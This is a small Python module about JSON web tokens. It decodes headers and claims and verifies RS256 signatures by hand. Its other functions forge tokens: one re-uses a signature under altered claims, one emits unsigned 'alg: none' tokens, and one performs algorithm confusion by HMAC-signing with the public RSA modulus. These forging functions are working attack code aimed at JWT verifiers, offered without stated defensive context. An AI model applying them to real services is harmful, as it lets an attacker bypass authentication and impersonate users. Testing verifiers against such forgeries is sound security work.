"""JSON web tokens taken apart, checked by arithmetic, and put together wrongly."""

import base64
import hashlib
import hmac
import json

# DigestInfo of SHA-256, RFC 8017 section 9.2.
SHA256 = bytes.fromhex("3031300d060960864801650304020105000420")


def encode(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decode(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def header(token):
    return json.loads(decode(token.split(".")[0]))


def claims(token):
    return json.loads(decode(token.split(".")[1]))


def is_signed_by(token, key):
    """RSASSA-PKCS1-v1_5 with SHA-256 under a public key as JWK, RFC 8017 section 8.2.2."""
    signed, _, signature = token.rpartition(".")
    modulus, exponent = (int.from_bytes(decode(key[part]), "big") for part in ("n", "e"))
    length = (modulus.bit_length() + 7) // 8
    digest = SHA256 + hashlib.sha256(signed.encode()).digest()
    padded = b"\0\1" + b"\xff" * (length - len(digest) - 3) + b"\0" + digest
    return pow(int.from_bytes(decode(signature), "big"), exponent, modulus) == int.from_bytes(padded, "big")


def with_claims(token, **changed):
    """The same signature under other claims."""
    head, _, signature = token.split(".")
    return ".".join([head, encode(json.dumps(claims(token) | changed).encode()), signature])


def unsigned(token, algorithm="none"):
    head = encode(json.dumps({"alg": algorithm, "typ": "JWT"}).encode())
    return f"{head}.{token.split('.')[1]}."


def signed_by_public_key(token, key):
    """HS256 with what everybody knows for a secret."""
    head = encode(json.dumps({"alg": "HS256", "typ": "JWT", "kid": key["kid"]}).encode())
    signed = f"{head}.{token.split('.')[1]}"
    return f"{signed}.{encode(hmac.digest(decode(key['n']), signed.encode(), hashlib.sha256))}"
